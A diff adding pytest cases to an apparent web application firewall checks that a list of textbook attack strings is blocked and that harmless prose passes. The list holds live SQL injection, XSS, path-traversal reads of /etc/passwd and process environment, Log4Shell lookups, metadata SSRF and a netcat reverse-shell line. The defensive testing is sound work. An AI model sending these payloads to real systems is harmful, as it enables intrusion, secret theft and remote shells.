@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 from collections.abc import Iterator
+from urllib.parse import quote
 
 import pytest
 import yaml
@@ -142,6 +143,46 @@ def test_attacks_of_every_family_are_blocked(
     assert any(rule.startswith(f"fsm-{family}-") for rule in result.matched_rules)
 
 
+# Textbook payloads written for these tests (none from the CRS corpus), one query argument each.
+TEXTBOOK = [
+    "admin'--",
+    "' or ''='",
+    "1' ORDER BY 3--+",
+    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
+    "1' AND 1=2 UNION SELECT NULL,version()--",
+    "'; EXEC xp_cmdshell('dir')--",
+    "x' AND extractvalue(1,concat(0x7e,database()))--",
+    "<img src=x onerror=alert(1)>",
+    '"><script>alert(1)</script>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    "<details open ontoggle=alert(1)>",
+    "....//....//etc/passwd",
+    "..%c0%af..%c0%afetc/passwd",
+    "/proc/self/environ",
+    "..\\..\\..\\windows\\win.ini",
+    "|id",
+    "$(id)",
+    "; ping -c 3 127.0.0.1",
+    "| nc -e /bin/sh 10.0.0.1 4444",
+    "{{config.items()}}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+    "constructor[prototype][admin]=1",
+    "http://169.254.169.254/latest/meta-data/",
+    "gopher://127.0.0.1:6379/_INFO",
+    'O:8:"stdClass":0:{}',
+]
+
+
+@pytest.mark.parametrize("payload", TEXTBOOK)
+def test_textbook_payloads_are_blocked(inspector: Inspector, payload: str) -> None:
+    request = make_request("GET", "/x?q=" + quote(payload, safe=""), (), b"")
+    assert verdict(inspector, request).decision is Decision.BLOCK
+
+
 def test_log4shell_in_a_header_is_blocked(inspector: Inspector) -> None:
     request = make_request("GET", "/", (("X-Api-Version", "${${lower:j}ndi:ldap://x/a}"),), b"")
     assert verdict(inspector, request).decision is Decision.BLOCK
@@ -160,6 +201,45 @@ BENIGN = [
 def test_ordinary_requests_pass(inspector: Inspector, method: str, uri: str, body: bytes) -> None:
     headers = (("Content-Type", "application/x-www-form-urlencoded"),) if body else ()
     assert verdict(inspector, make_request(method, uri, headers, body)).decision is (Decision.ALLOW)
+
+
+# Search terms and prose that share words and punctuation with attacks.
+PROSE = [
+    "Tom's Diner",
+    "Select model: 'Pro' or 'Air'",
+    "1/2 cup sugar & 2 eggs",
+    "C:\\Program Files\\App",
+    "price < 100 and rating > 4",
+    "I said 'yes' and left",
+    "it's 'good' or 'bad'",
+    "drop-off at 5pm; update me",
+    "Call me; more details tomorrow",
+    "cat & dog hotel",
+    "ls 400 lexus",
+    "time to sleep (8h)",
+    "he wrote: 'done' -- thanks",
+    "user (admin) settings",
+    "x >= 3 && y <= 4",
+    "if (a == b) { return; }",
+    "SELECT * is bad practice",
+    "<b>bold</b> text",
+    "=SUM(A1:A9)",
+    "localhost:3000 dev server",
+    "bin/rails server",
+    "$HOME/projects",
+    "He's 6'2\" tall",
+    "${name} template",
+    "{{ name }}",
+    "while (true) loop question",
+    "window.location.href question",
+    "exec summary attached",
+]
+
+
+@pytest.mark.parametrize("text", PROSE)
+def test_prose_that_looks_like_attacks_passes(inspector: Inspector, text: str) -> None:
+    request = make_request("GET", "/search?q=" + quote(text, safe=""), (), b"")
+    assert verdict(inspector, request).decision is Decision.ALLOW
 
 
 def test_paranoia_level_selects_the_rules_that_run(inspector: Inspector) -> None:
